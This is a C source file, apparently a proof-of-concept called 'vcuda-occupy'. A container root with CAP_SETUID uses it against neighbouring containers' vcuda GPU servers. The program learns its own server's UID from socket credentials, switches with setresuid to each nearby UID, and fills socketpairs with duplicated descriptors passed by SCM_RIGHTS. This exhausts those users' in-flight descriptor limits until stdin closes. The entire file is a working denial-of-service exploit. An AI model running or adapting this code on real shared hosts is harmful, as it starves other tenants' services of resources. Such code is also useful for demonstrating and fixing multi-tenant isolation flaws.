/* SPDX-License-Identifier: Apache-2.0 */

/*
 * What root of a container that has CAP_SETUID can do against its neighbours' servers: `vcuda-occupy SPAN` learns the user of
 * its own server, becomes each of the SPAN users below and above it in turn, and has as many descriptors under way as these
 * may have. Prints "occupied N around UID", and stays until its standard input ends.
 */

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

enum { DESCRIPTORS = 253, /* of a message: as many as the kernel takes */ SERVERS_LIMIT = 4096 };

static void fail(const char *what)
{
	perror(what);
	exit(EXIT_FAILURE);
}

/* Sends one descriptor so often. Return: whether the kernel took all. */
static int send_descriptors(int socket_fd, int fd)
{
	union {
		struct cmsghdr header;
		char bytes[CMSG_SPACE(DESCRIPTORS * sizeof(int))];
	} control = {.header = {.cmsg_level = SOL_SOCKET,
				.cmsg_type = SCM_RIGHTS,
				.cmsg_len = CMSG_LEN(DESCRIPTORS * sizeof(int))}};
	struct iovec data = {"x", 1};
	struct msghdr message = {
		.msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control)};

	for (size_t i = 0; i < DESCRIPTORS; i++)
		memcpy(CMSG_DATA(&control.header) + i * sizeof(int), &fd, sizeof(int));
	return sendmsg(socket_fd, &message, MSG_NOSIGNAL | MSG_DONTWAIT) == 1;
}

/* The kernel says whose greeting it is. */
static uid_t find_sender(struct msghdr *message)
{
	struct ucred sender;

	for (struct cmsghdr *part = CMSG_FIRSTHDR(message); part; part = CMSG_NXTHDR(message, part))
		if (part->cmsg_level == SOL_SOCKET && part->cmsg_type == SCM_CREDENTIALS) {
			memcpy(&sender, CMSG_DATA(part), sizeof(sender));
			return sender.uid;
		}
	fail("no sender");
	return 0;
}

static uid_t find_own(void)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = "/run/ctr-gpu/vcuda/socket"};
	union {
		struct cmsghdr header;
		char bytes[CMSG_SPACE(2 * sizeof(int)) + CMSG_SPACE(sizeof(struct ucred))];
	} control;
	char text[64];
	struct iovec data = {text, sizeof(text)};
	struct msghdr message = {
		.msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control)};
	int fd = socket(AF_UNIX, SOCK_SEQPACKET, 0), yes = 1;

	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_PASSCRED, &yes, sizeof(yes)) < 0 ||
	    connect(fd, (const struct sockaddr *)&address, sizeof(address)) < 0 || recvmsg(fd, &message, 0) <= 0)
		fail("no greeting");
	return find_sender(&message);
}

static int occupy(uid_t uid, int fd)
{
	int pair[2];

	if (setresuid(uid, 0, 0) < 0 || socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) < 0)
		fail("setresuid");
	for (int sent = 0; sent <= SERVERS_LIMIT; sent += DESCRIPTORS)
		if (!send_descriptors(pair[0], fd)) {
			(void)close(pair[0]);
			if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) < 0 || !send_descriptors(pair[0], fd))
				return 0;
		}
	return 1;
}

int main(int argc, char **argv)
{
	const struct rlimit many = {1 << 14, 1 << 14};
	const uid_t span = argc > 1 ? (uid_t)atoi(argv[1]) : 0, own = find_own();
	int fd = open("/dev/null", O_RDONLY), count = 0;
	char byte;

	if (setrlimit(RLIMIT_NOFILE, &many) < 0 || fd < 0)
		fail("setrlimit");
	for (uid_t uid = own - span; uid <= own + span; uid++)
		if (uid != own)
			count += occupy(uid, fd);
	printf("occupied %d around %u\n", count, own);
	(void)fflush(stdout);
	return read(STDIN_FILENO, &byte, 1) > 0;
}
